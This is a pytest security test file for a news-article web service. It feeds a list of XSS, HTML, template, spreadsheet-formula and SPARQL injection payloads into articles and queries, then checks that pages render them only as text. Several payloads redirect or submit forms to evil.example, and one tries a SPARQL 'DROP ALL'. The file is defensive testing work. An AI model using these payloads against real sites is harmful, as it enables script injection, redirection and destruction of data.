"""Articles that mean harm: what they hold is shown as text, on every page and in every twin."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pyoxigraph as ox
import pytest
from playwright.sync_api import sync_playwright

from musnad.collection import open_collection
from musnad.findings import derive_findings
from musnad.graph.mapping import map_record
from musnad.graph.naming import article_graph, article_name
from musnad.graph.vocabulary import load_vocabulary
from musnad.record import Record, parse_record
from musnad.terms import FINDINGS_GRAPH, SCHEMA, VOCABULARY_GRAPH
from record.small_record import small_record
from trust.scale import tried

from .conftest import serve

PAYLOADS = [
    "<script>window.harmed=1</script>",
    "</title><script>window.harmed=1</script>",
    "</script><script>window.harmed=1</script>",
    '"><img src=x onerror=window.harmed=1>',
    "' onmouseover='window.harmed=1' x='",
    "<svg/onload=window.harmed=1>",
    "</textarea><script>window.harmed=1</script>",
    "</style><script>window.harmed=1</script><style>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<a href=javascript:window.harmed=1>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><input name=q>",
    "<!--", "]]>", "<![CDATA[<script>window.harmed=1</script>",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "javascript:window.harmed=1",
    "&lt;script&gt;window.harmed=1&lt;/script&gt;",
    "&#60;script&#62;window.harmed=1",
    "<mark class=content data-statements=s1 onclick=window.harmed=1>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:click=window.harmed=1 hx-trigger=load>",
    "\\u003cscript\\u003ewindow.harmed=1\\u003c/script\\u003e",
    "=HYPERLINK(\"http://evil.example\")",
    "\u202e<script>window.harmed=1</script>\u202c",
    "\u2028\u2029<script>window.harmed=1</script>",
    "' } UNION { ?s ?p ?o } #",
    "\" . } ; DROP ALL #",
    "> <urn:x> <urn:y> . <urn:a",
    "\\\" \\' \\n ''' \"\"\"",
    "ا" * 2000,
    "🙂<b>𝕏</b>\u0640\u064b",
]  # fmt: skip
HARMFUL_URLS = ["javascript:alert(1)", "data:text/html,<script>window.harmed=1</script>", "vbscript:x"]
TAGS = {
    "html", "head", "meta", "title", "link", "body", "a", "header", "div", "span", "nav", "main", "h1",
    "h2", "h3", "p", "ol", "ul", "li", "dl", "dt", "dd", "section", "article", "figure", "figcaption",
    "blockquote", "q", "bdi", "mark", "time", "details", "summary", "pre", "code", "footer", "form",
    "label", "input", "select", "option", "button", "small", "table", "thead", "tbody", "tr", "th", "td",
    "strong", "script", "textarea",
}  # fmt: skip
DRAWN = {"g", "path", "rect", "text", "title", "a"}


class Reader(HTMLParser):
    """Notes what on a page could do something that its maker did not mean."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.links: list[str] = []
        self.drawings = 0

    def handle_endtag(self, tag: str) -> None:
        self.drawings -= tag == "svg"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        # A drawing of ours says what it is; one that a payload brings does not.
        drawing = tag == "svg" and given.get("class") == "drawn"
        self.drawings += drawing
        if tag not in TAGS and not drawing and not (self.drawings and tag in DRAWN):
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "hx-on"):
                self.wrong.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "hx-get"):
                self.links.append(value or "")
                if not re.match(r"(/|#|https://news\.example/)", value or ""):
                    self.wrong.append(f"{tag} {name}={value}")
        if tag == "script" and not (given.get("src") or "").startswith(("/assets/", "/vendor/")):
            self.wrong.append(f"script {attrs}")
        if tag == "meta" and "http-equiv" in given:
            self.wrong.append(f"meta {attrs}")


def article(number: int, payload: str) -> dict[str, Any]:
    """Put a payload wherever an article, or who reads it, can put words of their own."""
    record = small_record()
    text = record["text"]
    record["article"] = f"hostile-{number}"
    record["title"] = f"{payload} title"
    record["outlet"] = f"River {payload}"
    record["url"] = f"https://news.example/{number}"
    record["text"] = text.replace("spokesman Ali Hadi", f"spokesman {payload} Ali Hadi").replace(
        "guards leave", f"guards {payload} leave"
    )
    record["review"]["by"] = f"Reader {payload}"
    hadi, _, delta, river = record["sources"]
    hadi["canonical"] = hadi["labels"]["en"] = f"Ali {payload} Hadi"
    delta["canonical"] = f"Delta {payload}"
    river["canonical"] = record["outlet"]
    record["entities"][0]["name"] = f"guards {payload}"
    record["entities"][0]["labels"] = {"ar": f"حراس {payload}"}
    first, second = record["statements"]
    first["source"] = {
        "text": f"spokesman {payload} Ali Hadi",
        "canonical": hadi["canonical"],
        "kind": "office",
    }
    first["via"][0]["agent"] = delta["canonical"]
    second["content"]["text"] = f"About 300 guards {payload} leave the North Camp"
    second["claims"][0]["evidence"]["text"] = f"About 300 guards {payload} leave"
    record["alignments"][0]["evidence"]["text"] = f"guards {payload} leave the North Camp"
    return record


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Serve articles that hold every payload."""
    folder = tmp_path_factory.mktemp("hostile") / "news.musnad"
    with open_collection(folder) as news:
        for number, payload in enumerate(PAYLOADS):
            record = parse_record(json.dumps(article(number, payload), ensure_ascii=False), where="payload")
            news.store.replace(_graphs(record, HARMFUL_URLS[number % len(HARMFUL_URLS)]))
        quads = list(news.store.quads())
        vocabulary = list(load_vocabulary().quads)
        news.store.replace({FINDINGS_GRAPH: derive_findings(quads), VOCABULARY_GRAPH: vocabulary})
    with serve(folder) as address:
        yield address


def _graphs(record: Record, url: str) -> dict[str, list[ox.Quad]]:
    """Map a record, with an address that a record may not have: others may have filled a store."""
    name = article_name(record)
    quads = [quad for quad in map_record(record) if quad.predicate.value != SCHEMA("url")]
    graph = ox.NamedNode(article_graph(name))
    quads.append(ox.Quad(ox.NamedNode(name), ox.NamedNode(SCHEMA("url")), ox.Literal(url), graph))
    return {graph.value: quads}


def test_no_payload_becomes_part_of_a_page(hostile: str) -> None:
    shown = set()
    with httpx.Client(base_url=hostile, trust_env=False, timeout=60) as client:
        waiting = ["/articles", "/articles?lang=ar&q=leave", "/sources", "/questions", "/ask"]
        waiting += [f"/articles?q={httpx.QueryParams({'q': p})}&outlet={p}" for p in PAYLOADS[:4]]
        seen: set[str] = set()
        kinds: dict[str, int] = {}
        while waiting:
            address = waiting.pop(0)
            kind = address.split("?")[0].split("/")[1]
            if address in seen or kinds.get(kind, 0) >= 36:
                continue
            seen.add(address)
            kinds[kind] = kinds.get(kind, 0) + 1
            answer = client.get(address)
            if not answer.headers["Content-Type"].startswith("text/html"):
                continue
            assert answer.status_code == 200, address
            reader = Reader()
            reader.feed(answer.text)
            assert reader.wrong == [], address
            shown |= {
                number for number, p in enumerate(PAYLOADS) if " ".join(p.split()) in unescape(answer.text)
            }
            places = [link for link in reader.links if link.startswith("/") and not link.startswith("/ask?")]
            waiting += [place.split("#")[0] for place in places]
    assert shown == set(range(len(PAYLOADS)))
    assert {"article", "claim", "question", "source", "thing", "articles", "sources", "ask"} <= kinds.keys()


def test_twins_hold_payloads_as_data(hostile: str) -> None:
    with httpx.Client(base_url=hostile, trust_env=False, timeout=60) as client:
        rows = client.get("/articles.json").json()
        titles = {row["title"] for row in rows}
        assert f"{PAYLOADS[0]} title" in titles
        for form, start in (("json", "application/json"), ("csv", "text/csv"), ("ttl", "text/turtle")):
            answer = client.get(f"/articles.{form}")
            assert answer.headers["Content-Type"].startswith(start)
            assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_payload_in_an_address_or_a_query_stays_what_it_is(hostile: str, payload: str) -> None:
    with httpx.Client(base_url=hostile, trust_env=False, timeout=60) as client:
        for path, name in (("/articles", "q"), ("/thing", "iri"), ("/questions", "q"), ("/ask", "query")):
            answer = client.get(path, params={name: payload, "lang": payload, "page": payload})
            assert answer.status_code in (200, 400, 404)
            reader = Reader()
            reader.feed(answer.text)
            assert reader.wrong == []
        query = f"SELECT (<urn:a> AS ?iri) ({json.dumps(payload, ensure_ascii=False)} AS ?x) {{}}"
        answer = client.post("/sparql", data={"query": query}, headers={"Accept": "text/html, */*;q=0.1"})
        assert not answer.headers["Content-Type"].startswith("text/html")
    tried("payloads tried", 5)


@pytest.mark.system("chromium")
def test_nothing_runs_in_a_browser(hostile: str) -> None:
    with httpx.Client(base_url=hostile, trust_env=False, timeout=60) as client:
        articles = [
            f"/article/{row['article'].rpartition('/')[2]}" for row in client.get("/articles.json").json()
        ]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
        page = browser.new_page(base_url=hostile)
        outside: list[str] = []
        page.on(
            "request", lambda asked: outside.append(asked.url) if not asked.url.startswith(hostile) else None
        )
        for address in ["/articles", "/sources", "/questions", *articles[::3]]:
            page.goto(address)
            assert page.evaluate("window.harmed") is None
        page.goto(f"/ask?query={PAYLOADS[6]}")
        assert page.evaluate("window.harmed") is None
        # Results of SPARQL are drawn by the editor: texts and IRIs out of the graph.
        query = "SELECT * { ?s ?p ?o FILTER(CONTAINS(STR(?o), 'harmed') && STRLEN(STR(?o)) < 200) } LIMIT 40"
        page.goto(f"/ask?{httpx.QueryParams({'query': query})}")
        page.locator(".yasqe_queryButton").click()
        page.wait_for_selector(".yasr_results td")
        assert page.evaluate("window.harmed") is None
        assert outside == []
        browser.close()


def test_hostile_store_is_the_folder_that_was_built(tmp_path: Path) -> None:
    """The payloads pass the checks of a record: they are words, and words are kept."""
    record = parse_record(json.dumps(article(3, PAYLOADS[3]), ensure_ascii=False), where="payload")
    with open_collection(tmp_path / "one.musnad") as news:
        news.put([record])
        assert PAYLOADS[3] in news.claims()[1].quote
